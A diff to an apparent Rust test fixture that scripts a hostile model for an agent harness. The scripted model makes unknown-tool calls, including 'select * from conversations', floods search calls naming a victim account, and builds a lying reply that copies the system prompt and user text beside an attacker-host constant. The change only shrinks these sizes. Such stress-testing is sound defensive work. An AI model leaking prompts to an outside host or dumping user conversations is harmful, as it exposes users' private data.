@@ -75,14 +75,14 @@ fn unknown_tools() -> Saying {
         ("confirm_case", json!({ "digest": "0" }).to_string()),
         ("run_sql", json!({ "sql": "select * from conversations" }).to_string()),
         ("search_docs", "{\"query\": \"unfinished".to_owned()),
-        ("read_account", "A".repeat(20_000)),
+        ("read_account", "A".repeat(300)),
     ];
     Saying { calls: calls.map(|(name, it)| (name.to_owned(), it)).into(), ..Saying::default() }
 }
 
-/// Twenty calls in each reply, for as long as any tool is offered.
+/// Ten calls in each reply, for as long as any tool is offered.
 fn endless(asked: &Asked) -> Saying {
-    let calls = (0..20).map(|it| {
+    let calls = (0..10).map(|it| {
         let query = format!("again {} {it} account {VICTIM}", asked.step);
         ("search_docs".to_owned(), json!({ "query": query }).to_string())
     });
@@ -93,7 +93,7 @@ fn endless(asked: &Asked) -> Saying {
 fn lies(asked: &Asked, plan: u64) -> String {
     let host = ATTACKERS_HOST;
     let prompt = asked.texts.join("\n");
-    let leaked: String = format!("{} {prompt}", asked.system).chars().take(4_000).collect();
+    let leaked: String = format!("{} {prompt}", asked.system).chars().take(1_200).collect();
     let quote = bearing(asked).into_iter().next();
     let (number, words) = quote.map_or((1, "Everything is fine.".to_owned()), |it| (it.number, it.words));
     let mut text = format!(
